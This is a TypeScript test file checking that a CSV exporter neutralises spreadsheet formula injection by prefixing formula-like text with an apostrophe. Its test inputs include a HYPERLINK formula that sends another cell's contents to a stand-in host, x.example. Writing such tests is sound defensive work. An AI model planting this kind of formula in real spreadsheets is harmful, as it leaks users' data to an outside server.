import { describe, expect, it } from 'vitest';
import { csvFile, spreadsheetSafe } from './csv-export.js';

const csvText = async (rows: Record<string, unknown>[]) => {
  const file = await csvFile('t.csv', [{ header: '值', key: 'value', width: 10 }], rows);
  return file.content.toString('utf8').replace(/^\ufeff/, '').trim().split(/\r?\n/).slice(1);
};

describe('CSV cells a spreadsheet opens', () => {
  it.each(['=1+2', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x.example/?"&A2,"x")'])('turns text starting a formula, %j, into text', (text) => {
    expect(spreadsheetSafe(text)).toBe(`'${text}`);
  });

  it('leaves other text, and numbers (negative ones too), as they are', () => {
    for (const value of ['王师傅', 'HQ-T01', 'a=b', ' =1', '', null, undefined, 0, -3, -0.5, 77.14, true]) expect(spreadsheetSafe(value)).toBe(value);
  });

  it('writes a negative score as a number and a formula-looking name as quoted text', async () => {
    expect(await csvText([{ value: -3 }, { value: '-3' }, { value: '=HYPERLINK("http://x.example/?"&A2,"x")' }, { value: '张三' }])).toEqual([
      '-3',
      "'-3",
      `"'=HYPERLINK(""http://x.example/?""&A2,""x"")"`,
      '张三',
    ]);
  });
});
